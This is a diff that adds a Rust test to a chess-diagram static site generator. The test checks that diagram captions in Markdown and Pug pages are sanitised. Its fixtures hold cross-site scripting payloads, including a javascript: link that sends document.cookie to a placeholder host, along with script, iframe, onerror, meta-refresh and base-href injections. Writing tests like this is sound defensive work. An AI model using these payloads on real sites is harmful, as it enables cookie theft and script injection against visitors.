@@ -201,3 +201,80 @@ fn strict_build_refuses_unsafe_html_and_base_url_must_be_http() {
     let text = err.to_string();
     assert!(text.contains("base_url") && text.contains("http"), "{text}");
 }
+
+/// Diagram captions are placed into the page after its body was
+/// sanitised: each is sanitised on its own (issue 41). Markdown block
+/// captions and Pug `figcaption`s, each with a payload the page-body scan
+/// would have caught had it been in the body.
+const CAPTIONS_MD: &str = r#"# Captions
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "[Play](javascript&#58;fetch('//x/?c='+document.cookie))"
+```
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "<iframe srcdoc='<script>alert(1)</script>'></iframe><script>alert(2)</script>"
+```
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "<img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=//x'><base href='//x/'><form action='//x'></form><object data=x></object><style>*{}</style>[d](data:text/html,x)"
+```
+"#;
+
+const CAPTIONS_PUG: &str = r#"p Figures
+figure.diagram-container
+  .diagram
+    | fen:8/8/8/8/8/8/8/K6k:
+  figcaption
+    a(href="javascript:alert(1)") Play
+    | and
+    a(href="data:text/html,x" onclick="alert(2)") more
+"#;
+
+#[test]
+fn hostile_captions_never_reach_the_output() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    std::fs::create_dir_all(content.join("pages/captions")).unwrap();
+    std::fs::create_dir_all(content.join("pages/pugcaptions")).unwrap();
+    std::fs::write(content.join("pages/captions/en.md"), CAPTIONS_MD).unwrap();
+    std::fs::write(content.join("pages/pugcaptions/en.pug"), CAPTIONS_PUG).unwrap();
+    let out = dir.path().join("public");
+    let report = build(&BuildOptions {
+        content,
+        out: out.clone(),
+        strict: false,
+    })
+    .expect("the site builds");
+    assert!(report.written);
+    let mut pages = 0;
+    for name in ["captions", "pugcaptions"] {
+        let html = std::fs::read_to_string(out.join(format!("en/{name}/index.html")))
+            .expect("the page is written");
+        assert!(html.contains("<figcaption>"), "{name}: {html}");
+        let found = fenpress::unsafe_markup::find(&html, &theme_tag);
+        let context: Vec<&str> = found
+            .iter()
+            .map(|f| &html[f.at.saturating_sub(80)..(f.at + 80).min(html.len())])
+            .collect();
+        assert!(found.is_empty(), "{name}: {found:?} {context:?}");
+        assert!(!html.contains("<style>*"), "{name}");
+        pages += 1;
+    }
+    assert_eq!(pages, 2);
+}
+
+/// The default theme's own tags that the output scan would otherwise flag:
+/// its scripts (files of its own `static/`, JSON data), the empty icon,
+/// the search form.
+pub fn theme_tag(tag: &str) -> bool {
+    let own_script = tag.starts_with("<script")
+        && (tag.contains(" src=\"") && tag.contains("static/") && !tag.contains("://")
+            || tag.contains("type=\"application/json\""));
+    own_script
+        || tag == "<link rel=\"icon\" href=\"data:,\">"
+        || tag.starts_with("<form class=\"search-box\" role=\"search\"")
+}
